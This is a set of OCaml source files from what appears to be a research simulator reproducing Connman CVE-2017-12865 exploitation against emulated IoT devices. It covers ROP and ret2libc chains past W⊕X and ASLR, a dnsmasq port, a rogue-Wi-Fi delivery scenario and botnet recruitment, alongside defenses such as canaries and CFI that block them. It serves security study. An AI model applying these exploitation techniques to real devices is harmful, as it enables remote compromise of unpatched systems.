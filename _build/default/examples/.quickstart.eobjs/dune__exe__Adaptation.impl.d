examples/adaptation.ml: Connman Defense Dns Dnsmasq Exploit Format Loader Machine
