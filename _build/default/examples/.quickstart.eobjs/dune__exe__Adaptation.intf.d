examples/adaptation.mli:
