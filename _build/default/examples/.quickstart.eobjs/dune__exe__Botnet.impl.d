examples/botnet.ml: Core Format List Option
