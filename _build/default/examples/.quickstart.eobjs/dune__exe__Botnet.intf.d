examples/botnet.mli:
