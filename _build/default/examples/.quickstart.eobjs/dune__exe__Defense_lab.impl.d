examples/defense_lab.ml: Connman Defense Dns Exploit Format List Loader String
