examples/pineapple.ml: Connman Core Defense Format List Loader
