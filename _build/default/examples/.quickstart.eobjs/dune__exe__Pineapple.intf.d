examples/pineapple.mli:
