examples/quickstart.ml: Connman Defense Dns Format Loader Memsim
