examples/quickstart.mli:
