examples/rop_attack.ml: Array Connman Defense Dns Exploit Format List Loader Memsim Printf String
