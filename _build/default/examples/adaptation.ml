(* §V: adapting the exploit tooling to another DNS-based overflow with
   "minimal modification" — here, the dnsmasq-sim daemon (CVE-2017-14493
   class): a 2048-byte buffer, different frame offsets, an inline copy
   loop, and a different gadget inventory.  The only attacker-side change
   is the frame-geometry swap.

     dune exec examples/adaptation.exe *)

module D = Dnsmasq.Daemon
module Autogen = Exploit.Autogen

let say fmt = Format.printf (fmt ^^ "@.")
let lookup = Dns.Name.of_string "upstream.example"

let attack ~label ~arch ~profile ~strategy =
  let d = D.create { D.patched = false; arch; profile; boot_seed = 8 } in
  let analysis =
    D.process (D.create { D.patched = false; arch; profile; boot_seed = 9008 })
  in
  (* The §V "minimal modification": same payload builders, dnsmasq frame. *)
  let target =
    Exploit.Target.make
      ~frame:(Dnsmasq.Frame.geometry arch)
      ~buffer_addr:(Dnsmasq.Frame.buffer_addr analysis)
      analysis
  in
  match Autogen.generate ~analysis:target ~strategy () with
  | Error e -> say "%-34s generation failed: %s" label e
  | Ok (payload, raw_name) -> (
      let query = D.make_query d lookup in
      let disposition =
        D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ())
      in
      say "%-34s %s -> %s" label payload.Exploit.Payload.strategy
        (Format.asprintf "%a" D.pp_disposition disposition))

let () =
  say "== §V: the Connman toolkit vs dnsmasq-sim 2.77 ==";
  say "";
  let connman_fr = Connman.Frame.geometry Loader.Arch.Arm in
  let dnsmasq_fr = Dnsmasq.Frame.geometry Loader.Arch.Arm in
  say "the \"minimal modification\" (ARM):";
  say "  buffer size    connman %4d  ->  dnsmasq %4d"
    connman_fr.Machine.Stack_frame.buffer_size
    dnsmasq_fr.Machine.Stack_frame.buffer_size;
  say "  return offset  connman 0x%x ->  dnsmasq 0x%x"
    connman_fr.Machine.Stack_frame.off_ret dnsmasq_fr.Machine.Stack_frame.off_ret;
  say "";
  attack ~label:"x86, no protections" ~arch:Loader.Arch.X86
    ~profile:Defense.Profile.none ~strategy:Autogen.Code_injection;
  attack ~label:"x86, W⊕X (ret2libc)" ~arch:Loader.Arch.X86
    ~profile:Defense.Profile.wx ~strategy:Autogen.Ret2libc;
  attack ~label:"armv7, W⊕X (gadget chain)" ~arch:Loader.Arch.Arm
    ~profile:Defense.Profile.wx ~strategy:Autogen.Rop_wx;
  attack ~label:"armv7, W⊕X+ASLR (full ROP)" ~arch:Loader.Arch.Arm
    ~profile:Defense.Profile.wx_aslr ~strategy:Autogen.Rop_aslr;
  say "";
  (* The patched control. *)
  let d =
    D.create
      {
        D.patched = true;
        arch = Loader.Arch.Arm;
        profile = Defense.Profile.wx;
        boot_seed = 8;
      }
  in
  let analysis =
    D.process
      (D.create
         {
           D.patched = true;
           arch = Loader.Arch.Arm;
           profile = Defense.Profile.wx;
           boot_seed = 9008;
         })
  in
  let target =
    Exploit.Target.make
      ~frame:(Dnsmasq.Frame.geometry Loader.Arch.Arm)
      ~buffer_addr:(Dnsmasq.Frame.buffer_addr analysis)
      analysis
  in
  (match Autogen.generate ~analysis:target ~strategy:Autogen.Rop_wx () with
  | Error e -> say "generation failed: %s" e
  | Ok (_, raw_name) ->
      let query = D.make_query d lookup in
      say "%-34s rop-wx -> %s" "armv7 2.78 (patched control)"
        (Format.asprintf "%a" D.pp_disposition
           (D.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ()))));
  say "";
  say "Same generator, same chains — only the frame constants changed."
