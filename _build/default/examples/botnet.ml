(* The §III-D Mirai remark, made concrete: a mixed-firmware IoT fleet
   joins a venue network whose resolver the attacker poisoned; every
   vulnerable device's connectivity check recruits it.

     dune exec examples/botnet.exe *)

let say fmt = Format.printf (fmt ^^ "@.")

let () =
  say "== Botnet recruitment over poisoned DNS (§III-D remark) ==";
  say "";
  let pick n = Option.get (Core.Firmware.find n) in
  let firmwares =
    [
      pick "openelec-8";
      pick "openelec-8";
      pick "yocto-build";
      pick "nest-like-thermostat";
      pick "ubuntu-mate-rpi3";
      pick "tizen-3";
      pick "tizen-4";
      pick "tizen-4";
    ]
  in
  let r = Core.Scenario.botnet_recruitment ~firmwares () in
  List.iter
    (fun (name, status) ->
      say "  %-28s %s" name
        (match status with
        | `Recruited -> "RECRUITED into the botnet"
        | `Crashed -> "crashed (DoS only)"
        | `Resisted -> "resisted"))
    r.Core.Scenario.fleet;
  say "";
  say "%d of %d devices recruited; %d resisted (patched firmware)."
    r.Core.Scenario.recruited
    (List.length r.Core.Scenario.fleet)
    r.Core.Scenario.resisted
