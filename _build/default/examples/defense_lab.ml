(* Defense laboratory: pit the automated exploit generator (§VII) against
   every protection configuration, including the §IV mitigations the
   paper proposes, on both architectures.

     dune exec examples/defense_lab.exe *)

module Dnsproxy = Connman.Dnsproxy
module Autogen = Exploit.Autogen
module Profile = Defense.Profile

let lookup = Dns.Name.of_string "ipv4.connman.net"

let attack arch profile =
  let config =
    {
      Dnsproxy.version = Connman.Version.v1_34;
      arch;
      profile;
      boot_seed = 3;
      diversity_seed = None;
    }
  in
  let victim = Dnsproxy.create config in
  let analysis =
    Dnsproxy.process (Dnsproxy.create { config with Dnsproxy.boot_seed = 10_003 })
  in
  match Autogen.generate ~analysis:(Exploit.Target.connman analysis) () with
  | Error e -> ("-", "generation failed: " ^ e)
  | Ok (payload, raw_name) ->
      let query = Dnsproxy.make_query victim lookup in
      let disposition =
        Dnsproxy.handle_response victim (Autogen.response_for ~query ~raw_name)
      in
      ( payload.Exploit.Payload.strategy,
        Format.asprintf "%a" Dnsproxy.pp_disposition disposition )

let () =
  Format.printf "== Defense lab: autogen vs every configuration ==@.@.";
  Format.printf "%-8s %-22s %-16s %s@." "arch" "protections" "strategy" "result";
  Format.printf "%s@." (String.make 96 '-');
  let profiles =
    [
      ("none", Profile.none);
      ("wx", Profile.wx);
      ("wx+aslr", Profile.wx_aslr);
      ("wx+canary", Profile.with_canary Profile.wx);
      ("wx+aslr+canary", Profile.with_canary Profile.wx_aslr);
      ("wx+aslr+cfi", Profile.with_cfi Profile.wx_aslr);
      ("wx+aslr+canary+cfi", Profile.(with_cfi (with_canary wx_aslr)));
    ]
  in
  List.iter
    (fun arch ->
      List.iter
        (fun (label, profile) ->
          let strategy, result = attack arch profile in
          Format.printf "%-8s %-22s %-16s %s@." (Loader.Arch.name arch) label
            strategy result)
        profiles)
    Loader.Arch.all;
  Format.printf "@.Takeaway: the paper's three levels (none, wx, wx+aslr) all fall;@.";
  Format.printf "the §IV mitigations (canary, CFI) stop every strategy.@."
