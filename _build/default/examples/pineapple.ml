(* The §III-D remote experiment: a Wi-Fi Pineapple impersonates the home
   SSID at higher power, hands the victim a rogue DNS server over DHCP,
   and the next Connman connectivity check delivers the exploit.

     dune exec examples/pineapple.exe *)

let say fmt = Format.printf (fmt ^^ "@.")

let run ~label ~profile =
  say "---- %s ----" label;
  let config =
    {
      Connman.Dnsproxy.version = Connman.Version.v1_34;
      arch = Loader.Arch.Arm;
      profile;
      boot_seed = 77;
      diversity_seed = None;
    }
  in
  (match Core.Scenario.pineapple_attack ~seed:5 ~config () with
  | Error e -> say "payload generation failed: %s" e
  | Ok r ->
      List.iter (fun l -> say "  %s" l) (Core.Device.events r.Core.Scenario.device);
      say "  => device is %s"
        (match Core.Device.state r.Core.Scenario.device with
        | `Online -> "still online"
        | `Crashed -> "crashed (DoS)"
        | `Compromised -> "COMPROMISED (root shell)"
        | `Blocked -> "protected (defense fired)"));
  say ""

let () =
  say "== Wi-Fi Pineapple man-in-the-middle (§III-D) ==";
  say "";
  run ~label:"vulnerable device, W⊕X + ASLR" ~profile:Defense.Profile.wx_aslr;
  run ~label:"same device with CFI (§IV mitigation)"
    ~profile:Defense.Profile.(with_cfi wx_aslr);
  say "Patched firmware for comparison:";
  let config =
    {
      Connman.Dnsproxy.version = Connman.Version.v1_35;
      arch = Loader.Arch.Arm;
      profile = Defense.Profile.wx_aslr;
      boot_seed = 77;
      diversity_seed = None;
    }
  in
  match Core.Scenario.pineapple_attack ~seed:5 ~config () with
  | Error e -> say "generation failed: %s" e
  | Ok r -> Format.printf "%a@." Core.Scenario.pp_result r
