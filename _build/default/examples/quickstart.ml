(* Quickstart: boot a simulated IoT device running vulnerable Connman,
   feed it a benign DNS response, then the CVE-2017-12865 trigger.

     dune exec examples/quickstart.exe *)

module Dnsproxy = Connman.Dnsproxy

let say fmt = Format.printf (fmt ^^ "@.")

let () =
  say "== Connman CVE-2017-12865 quickstart ==";
  say "";
  (* 1. Boot: ARMv7 device, Connman 1.34, W⊕X enabled (a realistic IoT
     build — the overflow does not care). *)
  let device =
    Dnsproxy.create
      {
        Dnsproxy.version = Connman.Version.v1_34;
        arch = Loader.Arch.Arm;
        profile = Defense.Profile.wx;
        boot_seed = 42;
        diversity_seed = None;
      }
  in
  let proc = Dnsproxy.process device in
  say "booted %s on %s with protections: %s"
    proc.Loader.Process.spec.Loader.Process.name
    (Loader.Arch.name proc.Loader.Process.arch)
    (Defense.Profile.name proc.Loader.Process.profile);
  Format.printf "%a@." Memsim.Memory.pp_layout proc.Loader.Process.mem;

  (* 2. A legitimate lookup: the proxy forwards a query; the (honest)
     response parses in the simulated CPU and lands in the cache. *)
  let name = Dns.Name.of_string "ipv4.connman.net" in
  let query = Dnsproxy.make_query device name in
  let honest =
    Dns.Packet.encode
      (Dns.Packet.response ~query
         [ Dns.Packet.a_record name ~ttl:300 ~ipv4:0x5DB8D822 ])
  in
  say "benign response  -> %s"
    (Format.asprintf "%a" Dnsproxy.pp_disposition
       (Dnsproxy.handle_response device honest));
  (match Dnsproxy.cache_lookup device name with
  | Some ip ->
      say "cache now maps ipv4.connman.net -> %d.%d.%d.%d"
        ((ip lsr 24) land 0xFF) ((ip lsr 16) land 0xFF)
        ((ip lsr 8) land 0xFF) (ip land 0xFF)
  | None -> say "cache miss?!");
  say "machine executed %d instructions for that parse" (Dnsproxy.last_steps device);
  say "";

  (* 3. The attack: a Type-A response whose owner name expands past the
     1024-byte stack buffer in parse_response (Listing 1 of the paper). *)
  let query = Dnsproxy.make_query device name in
  let hostile =
    Dns.Craft.hostile_response ~query
      ~raw_name:(Dns.Craft.dos_name ~size:8192)
      ()
  in
  say "hostile response -> %s"
    (Format.asprintf "%a" Dnsproxy.pp_disposition
       (Dnsproxy.handle_response device hostile));
  say "daemon alive: %b  (denial of service)" (Dnsproxy.alive device);

  (* 4. The fix: the same bytes against Connman 1.35. *)
  let patched =
    Dnsproxy.create
      {
        Dnsproxy.version = Connman.Version.v1_35;
        arch = Loader.Arch.Arm;
        profile = Defense.Profile.wx;
        boot_seed = 42;
        diversity_seed = None;
      }
  in
  let query = Dnsproxy.make_query patched name in
  let hostile =
    Dns.Craft.hostile_response ~query
      ~raw_name:(Dns.Craft.dos_name ~size:8192)
      ()
  in
  say "";
  say "same attack vs patched 1.35 -> %s (alive: %b)"
    (Format.asprintf "%a" Dnsproxy.pp_disposition
       (Dnsproxy.handle_response patched hostile))
    (Dnsproxy.alive patched)
