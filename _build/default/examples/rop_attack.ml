(* The paper's hardest exploit, step by step: §III-C2 — ARMv7 with W⊕X and
   ASLR both enabled, defeated by a memcpy ROP chain through the PLT and
   .bss (Listing 5), delivered in a DNS response.

     dune exec examples/rop_attack.exe *)

module Dnsproxy = Connman.Dnsproxy
module Process = Loader.Process

let say fmt = Format.printf (fmt ^^ "@.")
let hex v = Printf.sprintf "0x%08x" v

let () =
  say "== §III-C2: ROP vs W⊕X + ASLR on ARMv7 ==";
  say "";
  let config =
    {
      Dnsproxy.version = Connman.Version.v1_34;
      arch = Loader.Arch.Arm;
      profile = Defense.Profile.wx_aslr;
      boot_seed = 7;
      diversity_seed = None;
    }
  in
  (* --- the attacker's bench: their own copy of the firmware --- *)
  let analysis =
    Dnsproxy.process
      (Dnsproxy.create { config with Dnsproxy.boot_seed = 90210 })
  in
  say "[analysis] attacker boots their own device copy:";
  say "  libc base (this boot only!)  %s"
    (hex analysis.Process.layout.Loader.Layout.libc_base);
  say "  .text / .plt / .bss (fixed)  %s / %s / %s"
    (hex analysis.Process.layout.Loader.Layout.text_base)
    (hex analysis.Process.layout.Loader.Layout.plt_base)
    (hex analysis.Process.layout.Loader.Layout.bss_base);
  say "";

  say "[ropper] scanning the Connman image for gadgets:";
  let gadgets = Exploit.Gadget.scan_arm analysis ~regions:[ ".text" ] in
  List.iteri
    (fun i g -> if i < 8 then say "  %s" (Format.asprintf "%a" Exploit.Gadget.pp_arm g))
    gadgets;
  say "  (%d total)" (List.length gadgets);
  say "";

  say "[memstr] single characters of \"sh\" inside .text:";
  (match Exploit.Memstr.find_chars analysis ~regions:[ ".text" ] "sh" with
  | Some chars ->
      List.iter (fun (c, addr) -> say "  '%c' at %s" c (hex addr)) chars
  | None -> say "  (none?)");
  say "";

  (* --- payload construction (Listing 5) --- *)
  (match Exploit.Payload.rop_aslr_arm (Exploit.Target.connman analysis) with
  | Error e -> say "payload failed: %s" (Format.asprintf "%a" Exploit.Payload.pp_error e)
  | Ok payload ->
      say "[payload] %s chain:" payload.Exploit.Payload.strategy;
      List.iter (fun n -> say "  %s" n) payload.Exploit.Payload.notes;
      (match Exploit.Payload.to_wire_name payload with
      | Error e -> say "planning failed: %s" e
      | Ok raw_name ->
          say "  %d payload bytes fitted into %d wire bytes of DNS labels"
            (Array.length payload.Exploit.Payload.spec)
            (String.length raw_name);
          say "";

          (* --- the victim: different boot, different ASLR draw --- *)
          let victim = Dnsproxy.create config in
          let vproc = Dnsproxy.process victim in
          say "[victim] fresh boot with its own ASLR draw:";
          say "  libc base   %s (attacker's copy had %s)"
            (hex vproc.Process.layout.Loader.Layout.libc_base)
            (hex analysis.Process.layout.Loader.Layout.libc_base);
          say "  stack top   %s" (hex vproc.Process.layout.Loader.Layout.stack_top);
          say "";

          let query = Dnsproxy.make_query victim (Dns.Name.of_string "ipv4.connman.net") in
          let wire = Dns.Craft.hostile_response ~query ~raw_name () in
          say "[attack] forged DNS response (%d bytes on the wire)"
            (String.length wire);
          let disposition = Dnsproxy.handle_response victim wire in
          say "  -> %s" (Format.asprintf "%a" Dnsproxy.pp_disposition disposition);
          (* Show the string the chain assembled in .bss. *)
          let bss = Process.symbol vproc "__bss_start" in
          say "  .bss+4 now holds: %S"
            (Memsim.Memory.read_cstring vproc.Process.mem (bss + 4));
          say "";
          say "The chain used only PLT stubs, .text gadgets and .bss — none of";
          say "which ASLR moves in a non-PIE build. That is the paper's point."))
