lib/connman/dnsproxy.ml: Char Defense Dns Format Hashtbl List Loader Machine Memsim Program_arm Program_x86 String Version
