lib/connman/dnsproxy.mli: Defense Dns Format Loader Machine Version
