lib/connman/frame.ml: Loader Machine
