lib/connman/frame.mli: Loader Machine
