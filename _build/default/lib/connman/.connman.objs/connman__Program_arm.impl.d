lib/connman/program_arm.ml: Array Asm Defense Encode Isa_arm List Loader Memsim Printf String Version
