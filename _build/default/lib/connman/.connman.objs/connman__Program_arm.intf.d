lib/connman/program_arm.mli: Defense Loader Version
