lib/connman/program_x86.ml: Array Asm Defense Isa_x86 List Loader Memsim Printf String Version
