lib/connman/program_x86.mli: Defense Loader Version
