lib/connman/version.ml: Format Printf Stdlib String
