lib/connman/version.mli: Format
