module Mem = Memsim.Memory
module O = Machine.Outcome

type disposition =
  | Cached of int
  | Dropped of string
  | Crashed of O.stop_reason
  | Compromised of O.stop_reason
  | Blocked of O.stop_reason

let pp_disposition ppf = function
  | Cached n -> Format.fprintf ppf "cached %d record(s)" n
  | Dropped why -> Format.fprintf ppf "dropped (%s)" why
  | Crashed r -> Format.fprintf ppf "CRASHED: %a" O.pp r
  | Compromised r -> Format.fprintf ppf "COMPROMISED: %a" O.pp r
  | Blocked r -> Format.fprintf ppf "blocked by defense: %a" O.pp r

type config = {
  version : Version.t;
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  boot_seed : int;
  diversity_seed : int option;
}

let default_config =
  {
    version = Version.v1_34;
    arch = Loader.Arch.X86;
    profile = Defense.Profile.wx;
    boot_seed = 1;
    diversity_seed = None;
  }

type t = {
  config : config;
  mutable proc : Loader.Process.t;
  mutable alive : bool;
  mutable restarts : int;
  mutable next_id : int;
  mutable steps : int;
  pending : (int, Dns.Packet.question) Hashtbl.t;
  cache : Dns.Cache.t;
  mutable clock : int;  (* logical seconds, advanced by [tick] *)
}

let build_spec config =
  match config.arch with
  | Loader.Arch.X86 ->
      Program_x86.spec ~version:config.version ~profile:config.profile
        ?diversity_seed:config.diversity_seed ()
  | Loader.Arch.Arm ->
      Program_arm.spec ~version:config.version ~profile:config.profile
        ?diversity_seed:config.diversity_seed ()

let boot config ~restarts =
  Loader.Process.boot (build_spec config) ~profile:config.profile
    ~seed:(config.boot_seed + (restarts * 7919))

(* SOA-minimum stand-in: how long an NXDOMAIN is believed. *)
let negative_ttl = 60

let create ?cache_capacity config =
  {
    config;
    proc = boot config ~restarts:0;
    alive = true;
    restarts = 0;
    next_id = 0x1000 + (config.boot_seed land 0xFFF);
    steps = 0;
    pending = Hashtbl.create 8;
    cache = Dns.Cache.create ?capacity:cache_capacity ();
    clock = 0;
  }

let config t = t.config
let peek_pending t id = Hashtbl.find_opt t.pending id
let process t = t.proc
let alive t = t.alive
let last_steps t = t.steps

let restart t =
  t.restarts <- t.restarts + 1;
  t.proc <- boot t.config ~restarts:t.restarts;
  t.alive <- true;
  Hashtbl.reset t.pending

let make_query t qname =
  let id = t.next_id land 0xFFFF in
  t.next_id <- t.next_id + 1;
  let q = Dns.Packet.query ~id qname Dns.Packet.A in
  Hashtbl.replace t.pending id (List.hd q.Dns.Packet.questions);
  q

(* Host-side pre-validation, standing in for the header/flag checks
   dnsproxy.c performs before reaching get_name.  Reads only fixed-offset
   header fields and the (strictly parsed) question — never the answer's
   owner name, which is exactly the field the vulnerable path expands. *)
let prevalidate t wire =
  let len = String.length wire in
  if len < 12 then Error "short packet"
  else
    let u16 off = (Char.code wire.[off] lsl 8) lor Char.code wire.[off + 1] in
    let id = u16 0 in
    let flags = u16 2 in
    if (flags lsr 15) land 1 <> 1 then Error "not a response"
    else if flags land 0xF <> 0 then Error "error rcode"
    else if u16 4 <> 1 then Error "qdcount != 1"
    else if u16 6 < 1 then Error "no answers"
    else
      match Hashtbl.find_opt t.pending id with
      | None -> Error "unknown transaction id"
      | Some pending -> (
          match Dns.Name.decode wire 12 with
          | Error e -> Error ("bad question: " ^ e)
          | Ok (qname, used) ->
              if qname <> pending.Dns.Packet.qname then
                Error "question mismatch"
              else if 12 + used + 4 > len then Error "truncated question"
              else begin
                Hashtbl.remove t.pending id;
                Ok id
              end)

(* Update the host-visible cache on a successful parse: decode leniently
   and record A answers with their TTLs (the machine-level cache_store
   keeps the guest .bss in sync with a prefix copy). *)
let update_cache t wire =
  match Dns.Packet.decode wire with
  | Error _ -> 0
  | Ok msg ->
      List.fold_left
        (fun n (rr : Dns.Packet.rr) ->
          match (rr.Dns.Packet.rtype, Dns.Packet.ipv4_of_rdata rr.Dns.Packet.rdata) with
          | Dns.Packet.A, Some ip ->
              Dns.Cache.insert t.cache ~now:t.clock
                ~name:(Dns.Name.to_string rr.Dns.Packet.rname)
                ~ttl:rr.Dns.Packet.ttl ~ipv4:ip;
              n + 1
          | _ -> n)
        0 msg.Dns.Packet.answers

let rx_buffer_addr proc =
  proc.Loader.Process.layout.Loader.Layout.heap_base

(* An NXDOMAIN answering a pending question is terminal for that lookup:
   record it as a negative cache entry (so repeated queries for a name
   known to be absent are absorbed host-side) and drop the datagram
   before it ever reaches the vulnerable machine-code parse. *)
let nxdomain_negative t wire =
  let len = String.length wire in
  if len < 12 then false
  else
    let u16 off = (Char.code wire.[off] lsl 8) lor Char.code wire.[off + 1] in
    let flags = u16 2 in
    if (flags lsr 15) land 1 <> 1 || flags land 0xF <> 3 || u16 4 <> 1 then
      false
    else
      match Hashtbl.find_opt t.pending (u16 0) with
      | None -> false
      | Some pending -> (
          match Dns.Name.decode wire 12 with
          | Ok (qname, _) when qname = pending.Dns.Packet.qname ->
              Hashtbl.remove t.pending (u16 0);
              Dns.Cache.insert_negative t.cache ~now:t.clock
                ~name:(Dns.Name.to_string qname) ~ttl:negative_ttl;
              true
          | _ -> false)

let handle_response t wire =
  if not t.alive then Dropped "daemon not running"
  else if nxdomain_negative t wire then Dropped "nxdomain (negative cached)"
  else
    match prevalidate t wire with
    | Error why -> Dropped why
    | Ok _id ->
        let proc = t.proc in
        let buf = rx_buffer_addr proc in
        let heap_size = proc.Loader.Process.layout.Loader.Layout.heap_size in
        if String.length wire > heap_size then Dropped "oversized datagram"
        else begin
          Mem.write_bytes proc.Loader.Process.mem buf wire;
          let entry = Loader.Process.symbol proc "parse_response" in
          let r =
            Loader.Process.call proc ~fuel:400_000 ~entry
              ~args:[ buf; String.length wire ]
          in
          t.steps <- r.Loader.Process.steps;
          match r.Loader.Process.outcome with
          | O.Halted -> Cached (update_cache t wire)
          | O.Exec _ as reason ->
              t.alive <- false;
              Compromised reason
          | (O.Fault _ | O.Decode_error _ | O.Fuel_exhausted) as reason ->
              t.alive <- false;
              Crashed reason
          | (O.Cfi_violation _ | O.Aborted _) as reason ->
              t.alive <- false;
              Blocked reason
          | (O.Exited _) as reason ->
              t.alive <- false;
              Crashed reason
        end

let cache_lookup t qname =
  Dns.Cache.lookup t.cache ~now:t.clock (Dns.Name.to_string qname)

let cache_find t qname =
  Dns.Cache.find t.cache ~now:t.clock (Dns.Name.to_string qname)

let cache t = t.cache
let cache_stats t = Dns.Cache.stats t.cache
let tick t seconds = t.clock <- t.clock + max 0 seconds
