type t = Machine.Stack_frame.t = {
  buffer_size : int;
  off_null1 : int;
  off_null2 : int;
  off_canary : int;
  off_saved : (string * int) list;
  off_ret : int;
  frame_end : int;
}

(* These constants mirror the frames laid out by Program_x86 / Program_arm;
   test_connman verifies them against the running machine code. *)

let x86 =
  {
    buffer_size = 1024;
    off_null1 = 0x400;
    off_null2 = 0x404;
    off_canary = 0x40C;  (* [ebp-4] *)
    off_saved = [ ("ebp", 0x410) ];
    off_ret = 0x414;
    frame_end = 0x418;
  }

let arm =
  {
    buffer_size = 1024;
    off_null1 = 0x400;
    off_null2 = 0x404;
    off_canary = 0x408;  (* [fp-8] *)
    off_saved =
      [ ("r4", 0x410); ("r5", 0x414); ("r6", 0x418); ("r7", 0x41C); ("fp", 0x420) ];
    off_ret = 0x424;  (* saved lr, consumed by pop {…, pc} *)
    frame_end = 0x428;
  }

let geometry = function Loader.Arch.X86 -> x86 | Loader.Arch.Arm -> arm

(* Depth of the name buffer below the initial stack pointer used by
   Process.call:
   - x86: 2 pushed args (8) + pushed return (4) + pushed ebp (4), then the
     buffer starts 0x410 below the new ebp
   - ARM: 6 pushed callee-saved registers (24), buffer 0x410 below fp *)
let buffer_addr proc =
  let top = proc.Loader.Process.layout.Loader.Layout.stack_top - 0x100 in
  match proc.Loader.Process.arch with
  | Loader.Arch.X86 -> top - 16 - 0x410
  | Loader.Arch.Arm -> top - 24 - 0x410
