(** Stack-frame geometry of [parse_response] — the facts an attacker
    extracts with [gdb] on a local copy of the binary (§III: "we are able
    to isolate the sections of memory occupied by the stack of the
    parse_response function").

    All offsets are measured from the start of the [name\[1024\]] buffer,
    i.e. they are payload offsets: payload byte [off_ret] lands on the
    saved return address. *)

type t = Machine.Stack_frame.t = {
  buffer_size : int;  (** 1024 *)
  off_null1 : int;
      (** first pointer local that [parse_rr] dereferences when non-NULL
          (the §III-A2 obstacle; ARM only — x86's parse_rr ignores it) *)
  off_null2 : int;
  off_canary : int;  (** canary slot (meaningful only when canaries are on) *)
  off_saved : (string * int) list;
      (** callee-saved register slots restored by the epilogue, in stack
          order — don't-care bytes for payload planning *)
  off_ret : int;  (** saved return address / lr slot *)
  frame_end : int;  (** bytes from buffer start to past the frame *)
}

val geometry : Loader.Arch.t -> t

val buffer_addr : Loader.Process.t -> int
(** Absolute address of the [name] buffer for a given boot — derivable
    because [Process.call] places the initial stack pointer
    deterministically; under ASLR it moves with the stack (which is why
    §III-A's injection needs ASLR off). *)
