type t = { major : int; minor : int }

let make major minor = { major; minor }
let v1_30 = make 1 30
let v1_31 = make 1 31
let v1_32 = make 1 32
let v1_33 = make 1 33
let v1_34 = make 1 34
let v1_35 = make 1 35
let all = [ v1_30; v1_31; v1_32; v1_33; v1_34; v1_35 ]
let compare a b = Stdlib.compare (a.major, a.minor) (b.major, b.minor)
let vulnerable t = compare t v1_35 < 0
let to_string t = Printf.sprintf "%d.%d" t.major t.minor

let of_string s =
  match String.split_on_char '.' s with
  | [ ma; mi ] -> (
      match (int_of_string_opt ma, int_of_string_opt mi) with
      | Some major, Some minor -> Some { major; minor }
      | _ -> None)
  | _ -> None

let pp ppf t = Format.pp_print_string ppf (to_string t)
