(** Connman release catalogue relative to CVE-2017-12865.

    All releases up to and including 1.34 carry the unchecked copy in
    [get_name]; 1.35 (August 2017) added the size check.  §II–III of the
    paper names the versions shipped by Yocto (1.31), OpenELEC (1.34) and
    Tizen (< 4.0). *)

type t = { major : int; minor : int }

val v1_30 : t
val v1_31 : t
val v1_32 : t
val v1_33 : t
val v1_34 : t
val v1_35 : t

val make : int -> int -> t
val of_string : string -> t option
val to_string : t -> string
val compare : t -> t -> int

val vulnerable : t -> bool
(** [true] iff the release predates the 1.35 fix. *)

val all : t list
(** The catalogue, oldest first. *)

val pp : Format.formatter -> t -> unit
