lib/core/device.ml: Connman Dns Firmware Format List Netsim Option Supervisor
