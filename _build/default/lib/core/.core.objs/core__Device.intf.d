lib/core/device.mli: Connman Firmware Netsim Supervisor
