lib/core/experiments.ml: Connman Defense Dns Dnsmasq Exploit Firmware Format List Loader Machine Printf Scenario Stats String Tcpsvc
