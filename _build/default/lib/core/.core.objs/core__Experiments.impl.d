lib/core/experiments.ml: Buffer Connman Defense Device Dns Dnsmasq Exploit Firmware Format List Loader Machine Netsim Printf Scenario Stats String Supervisor Tcpsvc
