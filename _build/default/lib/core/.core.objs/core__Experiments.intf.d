lib/core/experiments.mli: Format Netsim
