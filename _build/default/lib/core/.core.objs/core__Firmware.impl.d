lib/core/firmware.ml: Connman Defense Format List Loader
