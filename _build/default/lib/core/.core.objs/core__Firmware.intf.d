lib/core/firmware.mli: Connman Defense Format Loader
