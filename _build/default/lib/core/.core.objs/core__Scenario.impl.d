lib/core/scenario.ml: Connman Defense Device Dns Exploit Firmware Format Hashtbl List Loader Netsim Printf
