lib/core/scenario.mli: Connman Device Exploit Firmware Format Netsim Result
