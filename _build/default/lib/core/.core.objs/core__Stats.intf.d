lib/core/stats.mli:
