lib/core/supervisor.ml: Connman Dnsmasq Format List Memsim Netsim Tcpsvc
