lib/core/supervisor.mli: Connman Dnsmasq Format Netsim Tcpsvc
