(** A networked IoT device running Connman.

    Binds a {!Connman.Dnsproxy} daemon to a {!Netsim.World} host: the
    device joins Wi-Fi networks, configures itself over DHCP, and issues
    the connectivity-check lookup real Connman performs
    ("ipv4.connman.net") — each response flowing into the vulnerable
    parse path. *)

type t

val create :
  Netsim.World.t -> name:string -> config:Connman.Dnsproxy.config -> t

val of_firmware :
  Netsim.World.t -> name:string -> ?boot_seed:int -> Firmware.t -> t

val host : t -> Netsim.World.host
val daemon : t -> Connman.Dnsproxy.t
val name : t -> string

val join_wifi : t -> Netsim.Wifi.ap list -> ssid:string -> Netsim.Wifi.ap option
(** Associate to the strongest AP with that SSID, then run DHCP; once
    configured, fire the connectivity-check DNS lookup.  Association is
    immediate; DHCP and DNS play out as the world runs. *)

val start_roaming :
  t ->
  scan:(unit -> Netsim.Wifi.ap list) ->
  ssid:string ->
  interval_us:int ->
  rounds:int ->
  unit
(** Rescan every [interval_us] (for [rounds] rounds) and re-associate when
    a stronger AP carries [ssid] — the automatic radio behaviour that the
    Pineapple abuses.  Each re-association re-runs DHCP and the
    connectivity check. *)

val lookup : t -> string -> unit
(** Queue a DNS query for a hostname through the device's configured DNS
    server (no-op when the device has no DNS yet or the daemon is dead). *)

val lookup_with_retry : t -> string -> retries:int -> timeout_us:int -> unit
(** Like {!lookup}, retransmitting up to [retries] times whenever no
    response has arrived within [timeout_us] (resolver-client behaviour
    on lossy networks).  Shorthand for {!lookup_with_policy} with
    [Supervisor.Retry.fixed ~attempts:(retries + 1) ~timeout_us]. *)

val lookup_with_policy : t -> string -> Supervisor.Retry.policy -> unit
(** Like {!lookup}, retransmitting under an arbitrary
    {!Supervisor.Retry.policy} (e.g. exponential client backoff). *)

val supervise : ?policy:Supervisor.policy -> t -> Supervisor.t
(** Put the device's connmand under a {!Supervisor}: every crash
    disposition the device observes notifies the supervisor, which
    restarts the daemon with backoff (logging into the device event
    log) or gives up on a crash loop.  Returns the supervisor for
    inspection. *)

val last_disposition : t -> Connman.Dnsproxy.disposition option
(** What happened to the most recent DNS response the daemon processed. *)

val dispositions : t -> Connman.Dnsproxy.disposition list
(** All response dispositions, oldest first. *)
